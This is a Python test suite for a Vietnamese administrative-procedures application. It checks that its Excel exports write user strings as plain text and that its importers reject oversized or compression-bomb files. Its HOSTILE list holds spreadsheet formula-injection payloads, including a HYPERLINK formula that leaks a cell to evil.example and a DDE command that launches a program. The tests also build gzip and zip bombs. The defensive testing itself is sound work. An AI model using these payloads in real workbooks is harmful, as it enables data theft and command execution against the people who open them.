"""Spreadsheets the product writes hold data, never formulas; hostile workbooks stay bounded."""

from __future__ import annotations

import io
import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from tthc.catalog.exporter import write_catalog
from tthc.messages import Messages
from tthc.reports.figures import DossierReport, DossierRow, Group, SatisfactionReport, Shares
from tthc.reports.render import Labels, dossiers_xlsx, satisfaction_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A2,"Xem chi tiết")',
    '=cmd|" /C calc"!A0',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
]


def _formulas(data: bytes) -> list[str]:
    """Every <f> element in the workbook's sheets."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


def _texts(data: bytes) -> set[str]:
    workbook = load_workbook(io.BytesIO(data))
    return {
        cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


def test_report_workbooks_write_user_strings_as_text() -> None:
    group = Group(HOSTILE[1], Shares([0, 0, 1]), HOSTILE)
    report = SatisfactionReport(
        start=date(2026, 1, 1), end=date(2026, 1, 31), scale=["Rất hài lòng", "Hài lòng", "Không"],
        criteria=[], overall=Shares([0, 0, 1]), general=Shares([0, 0, 0]), per_criterion={},
        breakdown=[group], by="agency", trend=[], lowest_procedures=[group],
        lowest_agencies=[group], stored=1, comments=[(2, HOSTILE[1], "", h) for h in HOSTILE],
    )  # fmt: skip
    buffer = io.BytesIO()
    satisfaction_xlsx(report, buffer, Labels.of(Messages(), "vi"))
    assert _formulas(buffer.getvalue()) == []
    # Kept, as text (XML stores a carriage return as a line feed).
    assert {h.replace("\r", "\n") for h in HOSTILE} <= _texts(buffer.getvalue())
    row = DossierRow(HOSTILE[0], received=1)
    buffer = io.BytesIO()
    table = DossierReport(date(2026, 1, 1), date(2026, 1, 31), "agency", [row], row)
    dossiers_xlsx(table, buffer, Labels.of(Messages(), "vi"))
    assert _formulas(buffer.getvalue()) == [] and HOSTILE[0] in _texts(buffer.getvalue())


def test_report_workbooks_print_on_one_page_width_with_their_headers() -> None:
    """A manager forwards or prints the workbook as it is: nothing cut, numbers formatted."""
    row = DossierRow("Ủy ban nhân dân cấp xã", received=12_345, resolved=10, early=4, on_time=5)
    table = DossierReport(date(2026, 7, 1), date(2026, 9, 30), "level", [row], row)
    buffer = io.BytesIO()
    dossiers_xlsx(table, buffer, Labels.of(Messages(), "vi"))
    sheet = load_workbook(buffer).active
    assert sheet.freeze_panes == "B3" and sheet.print_title_rows == "$2:$2"
    assert sheet.page_setup.orientation == "landscape" and sheet.page_setup.fitToWidth == 1
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet["A2"].font.b and sheet["A1"].font.b
    # Every header fits its column; counts are grouped, shares are percentages.
    for cell in sheet[2]:
        assert sheet.column_dimensions[cell.column_letter].width >= len(str(cell.value))
    received = next(c for c in sheet[3] if c.value == 12_345)
    assert received.number_format == "#,##0"
    shares = [c for c in sheet[3] if isinstance(c.value, float)]
    assert shares and all(c.number_format == "0.00%" for c in shares)
    assert shares[0].value == 0.9  # 9 of 10 resolved early or on time


def test_catalogue_export_writes_an_imported_formula_as_text(tmp_path: Path) -> None:
    record = {
        "code": "1.000001", "name": "Thủ tục thử", "field": "", "levels": [],
        "agency": HOSTILE[1], "processing_time": None, "fees": None,
        "documents": [{"key": "k", "name": HOSTILE[0]}], "steps": [], "ways": [],
        "conditions": None, "result": None, "legal_basis": [], "effective_date": None,
        "source_url": None, "aliases": [],
    }  # fmt: skip
    path = tmp_path / "catalog.xlsx"
    write_catalog([record], path)
    assert _formulas(path.read_bytes()) == []
    assert {HOSTILE[0], HOSTILE[1]} <= _texts(path.read_bytes())


def _stale_dimension_workbook(path: Path, rows: int) -> None:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["Mã số", "Tên"])
    for n in range(rows):
        sheet.append([f"1.{n:06d}", f"Thủ tục số {n}"])
    workbook.save(path)
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    sheet_xml = parts["xl/worksheets/sheet1.xml"].decode()
    start = sheet_xml.index("<dimension ref=")
    end = sheet_xml.index("/>", start) + 2
    parts["xl/worksheets/sheet1.xml"] = (
        sheet_xml[:start] + '<dimension ref="A1:N4"/>' + sheet_xml[end:]
    ).encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


def test_a_workbook_with_a_stale_dimension_is_read_whole(tmp_path: Path) -> None:
    from tthc.catalog.records import read_catalog_file

    path = tmp_path / "stale.xlsx"
    _stale_dimension_workbook(path, 49)
    parsed = read_catalog_file(path)
    assert len(parsed.records) == 49 and parsed.problems == []


def test_a_workbook_declaring_every_cell_is_refused_or_read_small(tmp_path: Path) -> None:
    from tthc.catalog.records import CatalogFileError, read_catalog_file

    path = tmp_path / "huge-dimension.xlsx"
    _stale_dimension_workbook(path, 3)
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts["xl/worksheets/sheet1.xml"] = parts["xl/worksheets/sheet1.xml"].replace(
        b'<dimension ref="A1:N4"/>', b'<dimension ref="A1:XFD1048576"/>'
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    try:
        parsed = read_catalog_file(path)
    except CatalogFileError:
        return
    assert len(parsed.records) == 3


def test_compression_bombs_are_refused(tmp_path: Path) -> None:
    import gzip

    from tthc.catalog.records import CatalogFileError, read_catalog_file

    bomb = tmp_path / "bomb.json.gz"
    bomb.write_bytes(gzip.compress(b"[" + b" " * (64 * 1024 * 1024) + b"]", 6))
    assert bomb.stat().st_size < 1024 * 1024
    with pytest.raises(CatalogFileError, match="expands"):
        read_catalog_file(bomb)
    archive_bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(archive_bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"<x>" + b"a" * (64 * 1024 * 1024) + b"</x>")
    with pytest.raises(CatalogFileError, match="expands"):
        read_catalog_file(archive_bomb)
